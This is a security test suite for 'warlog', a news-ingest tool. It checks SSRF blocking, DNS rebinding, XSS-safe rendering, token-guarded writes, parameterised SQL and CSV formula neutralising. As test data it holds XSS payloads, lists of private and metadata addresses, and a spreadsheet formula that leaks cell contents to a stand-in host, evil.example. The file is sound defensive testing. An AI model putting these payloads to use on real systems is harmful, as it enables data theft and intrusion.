"""What warlog promises about hostile input (SECURITY.md): private addresses stay out of reach, article text is
never markup, writes need the token, the server stays on loopback, SQL takes values only as bound parameters,
and exported CSV cells never run as spreadsheet formulas.

A local HTTP server on 127.0.0.1 stands in for "the internet": the tests make the fetcher treat that one address
as public, and fake the resolver, so nothing leaves the machine.
"""

from __future__ import annotations

import ast
import csv
import io
import ipaddress
import json
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpcore
import pytest
from fastapi.testclient import TestClient

from warlog.errors import FetchError
from warlog.export.acled import guard_cell, to_acled_csv
from warlog.export.query import ExportFilter, select_rows
from warlog.pipeline import ingest
from warlog.sources import ReadOptions
from warlog.sources import url as url_module
from warlog.sources.url import PinnedBackend, fetch
from warlog.store import Store
from warlog.web.api import STATIC, create_app

SRC = Path(__file__).resolve().parent.parent / "src" / "warlog"
TOKEN = "t0ken-for-tests"
PAGE = (b"<!DOCTYPE html><html><head><title>Shelling in Kherson</title></head><body><article><h1>Shelling in "
        b"Kherson</h1><p>Russian shelling hit a market in Kherson on Monday, the regional governor said.</p>"
        b"</article></body></html>")
TEST_SERVER = ipaddress.ip_address("127.0.0.1")


# --- a local "public" server --------------------------------------------------------------------------


class Handler(BaseHTTPRequestHandler):
    hosts: list[str] = []

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        Handler.hosts.append(self.headers.get("Host", ""))
        targets = {"/to-metadata-name": "http://metadata.internal/latest/",
                   "/to-ipv6-loopback": "http://[::1]/admin", "/to-mapped": "http://[::ffff:10.0.0.1]/admin",
                   "/to-decimal": "http://2130706434/admin"}  # 127.0.0.2
        if self.path in targets:
            self.send_response(302)
            self.send_header("Location", targets[self.path])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.fixture
def public_test_server(monkeypatch):
    """The test server's address counts as public; every other address is judged by the real rule."""
    real = url_module.is_refused_address
    monkeypatch.setattr(url_module, "is_refused_address", lambda address: address != TEST_SERVER and real(address))


@pytest.fixture
def fake_dns(monkeypatch):
    """Install a resolver answering from a table (a list per name is answered in turn, the last one repeated);
    other names resolve as usual. Patched in the socket module itself, so a second lookup anywhere — by the
    HTTP client at connect time, say — gets the fake answers too. Returns the table and the lookups made."""
    real = socket.getaddrinfo
    table: dict[str, list[list[str]]] = {}
    lookups: list[str] = []

    def getaddrinfo(host, port, *args, **kwargs):
        name = host.decode() if isinstance(host, bytes) else host
        if name not in table:
            return real(host, port, *args, **kwargs)
        lookups.append(name)
        answers = table[name]
        addresses = answers.pop(0) if len(answers) > 1 else answers[0]
        return [(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, port or 0))
                for a in addresses]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return table, lookups


# --- the URL fetcher ----------------------------------------------------------------------------------


def test_dns_rebinding_cannot_swap_the_address_after_the_check(port, public_test_server, fake_dns):
    """The name resolves to the vetted address first and to a private one afterwards: the fetch connects to the
    vetted one (one lookup only), and the server still sees the name in the Host header."""
    table, lookups = fake_dns
    table["news.rebind.test"] = [["127.0.0.1"], ["10.255.255.1"]]
    Handler.hosts.clear()
    fetched = fetch(f"http://news.rebind.test:{port}/page", max_bytes=100_000, timeout=5)
    assert fetched.body == PAGE
    assert lookups == ["news.rebind.test"]
    assert Handler.hosts == [f"news.rebind.test:{port}"]


@pytest.mark.parametrize("addresses", [["10.0.0.5"], ["192.168.1.20"], ["169.254.169.254"], ["fe80::1"],
                                       ["::ffff:10.1.2.3"], ["93.184.215.14", "127.0.0.1"], ["fd00::7"]],
                         ids=["rfc1918", "home", "metadata", "link-local-v6", "mapped", "one-of-two", "ula"])
def test_names_resolving_to_private_addresses_are_refused(fake_dns, addresses):
    table, _ = fake_dns
    table["intranet.example.org"] = [addresses]
    with pytest.raises(FetchError, match="refused.*intranet.example.org.*--allow-private"):
        fetch("http://intranet.example.org/", max_bytes=10_000, timeout=2)


@pytest.mark.parametrize("target", [
    "http://127.0.0.1/", "http://[::1]/", "http://[fe80::1]/", "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:a9fe:a9fe]/", "http://[64:ff9b::a9fe:a9fe]/", "http://[2002:7f00:1::1]/",
    "http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/", "http://2130706433/", "http://0x7f000001/",
    "http://0177.0.0.1/", "http://127.1/", "http://0.0.0.0/", "http://100.64.0.1/", "http://169.254.169.254/",
    "http://224.0.0.1/", "http://[::]/",
], ids=lambda t: t.split("//")[1].rstrip("/"))
def test_private_addresses_in_every_spelling_are_refused(target):
    """Literal addresses: IPv6 loopback and link-local, IPv4 mapped into IPv6 or carried by NAT64, 6to4 or
    Teredo, decimal, hexadecimal, octal and short IPv4 forms, shared (CGNAT), unspecified and multicast."""
    with pytest.raises(FetchError, match="refused|not a valid URL"):
        fetch(target, max_bytes=10_000, timeout=2)


@pytest.mark.parametrize("path", ["/to-metadata-name", "/to-ipv6-loopback", "/to-mapped", "/to-decimal"])
def test_redirects_to_private_addresses_are_refused(port, public_test_server, fake_dns, path):
    table, _ = fake_dns
    table["metadata.internal"] = [["169.254.169.254"]]
    assert fetch(f"http://127.0.0.1:{port}/page", max_bytes=100_000, timeout=5).body == PAGE  # "public" is fine
    with pytest.raises(FetchError, match="refused.*--allow-private"):
        fetch(f"http://127.0.0.1:{port}{path}", max_bytes=100_000, timeout=5)


def test_the_connection_layer_refuses_a_host_it_was_not_given(port):
    """Even if the client's URL parser read a host differently from ours, an unvetted host is never dialled."""
    backend = PinnedBackend(open_to_all=False)
    backend.pins["vetted.example"] = ["127.0.0.1"]
    with pytest.raises(httpcore.ConnectError, match="not vetted"):
        backend.connect_tcp("127.0.0.1", port)
    backend.connect_tcp("vetted.example", port, timeout=2).close()


def test_allow_private_reaches_the_local_server(port):
    assert fetch(f"http://localhost:{port}/page", allow_private=True, max_bytes=100_000, timeout=5).body == PAGE


# --- the web server -----------------------------------------------------------------------------------

SCRIPT = "<script>window.__pwned = 'script'</script>"
IMG = "<img src=x onerror=\"window.__pwned = 'img'\">"
FORMULA_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> tuple[str, str]:
    """A store holding one article whose title and body carry markup and whose source name is a formula."""
    folder = tmp_path_factory.mktemp("security")
    article = folder / "hostile.txt"
    article.write_text(
        f"Drone strike on Odesa port {SCRIPT}\n\n"
        f"A Russian drone strike hit the port of Odesa on Tuesday night, killing two dock workers {IMG} and "
        "injuring five others, the regional governor said on Wednesday.\n\n"
        f"Ukraine's air force said it shot down 20 of 25 drones launched overnight {SCRIPT}.\n", encoding="utf-8")
    url = f"sqlite:///{folder / 'warlog.db'}"
    with Store(url) as store:
        (result,) = ingest([str(article)], store, ReadOptions(published=datetime(2024, 11, 5), source=FORMULA_SOURCE))
    assert result.status == "stored", result.error
    return url, result.document_id


@pytest.fixture(scope="module")
def client(hostile_store) -> Iterator[TestClient]:
    app = create_app(hostile_store[0], token=TOKEN)
    with TestClient(app) as test_client:
        yield test_client
    app.state.store.close()


def test_article_markup_comes_back_as_json_data(client, hostile_store):
    document = client.get(f"/api/documents/{hostile_store[1]}")
    assert document.status_code == 200 and document.headers["content-type"].startswith("application/json")
    body = document.json()
    assert SCRIPT in body["clean_text"] and IMG in body["clean_text"]
    assert "<script>" in body["title"]
    assert document.headers["x-content-type-options"] == "nosniff"
    policy = client.get("/").headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]


def test_page_code_never_turns_text_into_markup():
    """The page's own scripts put API strings into the page as text only."""
    for script in (STATIC / "app.js", STATIC / "index.html"):
        code = script.read_text(encoding="utf-8")
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                     "setTimeout(\"", "srcdoc", "DOMParser", "createContextualFragment"):
            assert sink not in code, f"{script.name} uses {sink}"


CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"


@pytest.mark.skipif(not Path(CHROMIUM).exists() and not os.environ.get("CI"), reason="Debian chromium not installed")
def test_a_browser_shows_article_markup_as_text(hostile_store):
    """Chromium opens the page and the hostile document: the markup is visible as text, nothing in it ran."""
    import uvicorn
    from playwright.sync_api import sync_playwright

    app = create_app(hostile_store[0])
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        free = probe.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=free, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    dialogs: list[str] = []
    try:
        with sync_playwright() as driver:
            browser = driver.chromium.launch(executable_path=CHROMIUM, args=[
                "--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking", "--no-first-run"])
            page = browser.new_page(bypass_csp=True)  # the page's own code must be safe without the CSP's help
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(f"http://127.0.0.1:{free}/")
            page.wait_for_function("typeof loadDocument === 'function'", timeout=20_000)
            page.evaluate(f"loadDocument({hostile_store[1]!r}).then(doc => renderText(doc, []))")  # its own path
            page.wait_for_function("document.getElementById('doc-text').textContent.includes('<script>')",
                                   timeout=20_000)
            shown = page.evaluate("document.getElementById('doc-text').textContent")
            assert "onerror" in shown
            assert "<script>" in page.evaluate("document.getElementById('doc-meta').textContent")  # the title
            assert page.evaluate("document.querySelectorAll('#doc-text img, #doc-text script').length") == 0
            assert page.evaluate("document.querySelectorAll('img[onerror]').length") == 0
            assert page.evaluate("window.__pwned === undefined")
            browser.close()
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        app.state.store.close()
    assert dialogs == []


def test_every_write_endpoint_needs_the_token(client):
    """Whatever the method, a route that is not a read refuses a request without the token (or a wrong one)."""
    writes = [(path, method.lower()) for path, item in client.get("/api/openapi.json").json()["paths"].items()
              for method in item if method.upper() not in ("GET", "HEAD", "OPTIONS")]
    assert writes  # the ingest endpoint at least
    for path, method in writes:
        for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {TOKEN}"}):
            response = client.request(method, path, json={"text": "Shelling hit Kharkiv."}, headers=headers)
            assert response.status_code in (401, 403), (method, path, headers, response.status_code)
    for method in ("put", "patch", "delete"):
        assert client.request(method, "/api/events").status_code == 405


@pytest.mark.parametrize("field", ["text", "source"])
def test_unpaired_surrogates_in_an_ingest_body_are_a_400(client, field):
    body = {"text": "Shelling hit Kharkiv on Monday, the governor said.", "source": "Wire"}
    body[field] = body[field][:8] + "\ud800" + body[field][8:]  # a lone surrogate: JSON can escape it, UTF-8 can't
    payload = json.dumps(body).encode()  # ensure_ascii writes it as the escape \ud800
    response = client.post("/api/ingest", content=payload,
                           headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"})
    if field == "text":  # the reader's check
        assert response.status_code == 400, response.text
        assert "surrogate" in response.json()["detail"]
    else:  # the body's validation (a length-limited string) answers first
        assert response.status_code == 422, response.text


@pytest.mark.parametrize("path", [
    "/api/events?event_type=%00", "/api/events?actor=abc%00def", "/api/events?source=%00",
    "/api/claims?speaker=%00", "/api/documents?source=x%00", "/api/documents/%00abc", "/api/places?document_id=%00",
])
def test_nul_characters_are_refused_with_a_400(client, path):
    response = client.get(path)
    assert response.status_code == 400, response.text
    assert "NUL" in response.json()["detail"]
    assert client.get("/api/events").status_code == 200


def test_serve_binds_to_loopback_by_default():
    import inspect

    from warlog.cli import app
    from warlog.commands.serve import is_loopback

    (command,) = [c for c in app.registered_commands if c.name == "serve"]
    assert inspect.signature(command.callback).parameters["host"].default == "127.0.0.1"
    assert is_loopback("127.0.0.1") and is_loopback("::1") and not is_loopback("0.0.0.0")


# --- SQL ----------------------------------------------------------------------------------------------

_SQL_CALLS = {"execute", "exec_driver_sql", "executescript", "executemany", "text"}


def _built_string(node: ast.AST) -> bool:
    """An f-string, a `%` or `+` over a string, or a `.format()` call: SQL assembled from values."""
    if isinstance(node, ast.JoinedStr):
        return True
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
        return any(isinstance(side, ast.Constant | ast.JoinedStr) and isinstance(getattr(side, "value", ""), str)
                   for side in (node.left, node.right))
    return isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"


def test_no_sql_is_built_from_strings():
    """Every SQL statement is SQLAlchemy Core or a constant string with bound parameters."""
    offenders = []
    files = sorted(SRC.rglob("*.py"))
    assert len(files) > 30
    for path in files:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and node.args:
                name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
                if name in _SQL_CALLS and _built_string(node.args[0]):
                    offenders.append(f"{path.relative_to(SRC)}:{node.lineno}")
    assert offenders == []


def test_the_sql_check_catches_what_it_looks_for():
    bad = ast.parse('c.execute(f"SELECT * FROM t WHERE id = {x}")\nc.execute("SELECT %s" % x)').body
    assert all(_built_string(statement.value.args[0]) for statement in bad)
    assert not _built_string(ast.parse('c.execute("SELECT * FROM t WHERE id = ?", (x,))').body[0].value.args[0])


# --- CSV export ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", FORMULA_SOURCE])
def test_formula_cells_are_made_inert(cell):
    assert guard_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Russian forces", "", "1-2", "a=b", -33.5, 12, None])
def test_other_cells_are_untouched(cell):
    assert guard_cell(cell) == cell


def test_acled_csv_of_a_hostile_source_opens_as_text(hostile_store):
    with Store(hostile_store[0]) as store:
        rows = select_rows(store.engine, ExportFilter(include_generic=True))
    assert rows.events, "the hostile article should yield at least one event"
    written = list(csv.DictReader(io.StringIO(to_acled_csv(rows))))
    assert {row["source"] for row in written} == {"'" + FORMULA_SOURCE}
    for row in written:
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())
        assert not row["longitude"].startswith("'") and not row["latitude"].startswith("'")


# --- PostgreSQL: NUL refused before it reaches the driver, and the in-memory filters agree with SQL there too ---


@pytest.mark.postgres
def test_on_postgres_nul_is_a_400_and_event_filters_match_sql(pg_url, example_path):  # noqa: F811 (a fixture)
    from datetime import date

    from warlog.web import queries
    from warlog.web.event_index import EventIndex

    url = pg_url
    with Store(url) as store:
        results = ingest([str(example_path)], store, ReadOptions(published=datetime(2024, 11, 3), source="Wire"))
    assert [r.status for r in results] == ["stored"]
    app = create_app(url, token=TOKEN)
    try:
        with TestClient(app) as pg_client:
            for path in ("/api/events?actor=abc%00def", "/api/claims?speaker=%00", "/api/documents/%00"):
                assert pg_client.get(path).status_code == 400, path
            assert pg_client.get("/api/events?actor=russia").status_code == 200
        engine = app.state.store.engine
        index = EventIndex(engine)
        for f in (queries.EventFilter(), queries.EventFilter(include_generic=True),
                  queries.EventFilter(since=date(2024, 11, 1), until=date(2024, 11, 3), event_type="battles"),
                  queries.EventFilter(bbox=queries.BBox(22, 44, 41, 53), actor="russ", source="wire")):
            assert index.list_events(f, 100, 0) == queries.list_events(engine, f, 100, 0)
            assert index.list_events(f, 100, 0)[0] > 0 or f.event_type
    finally:
        app.state.store.close()
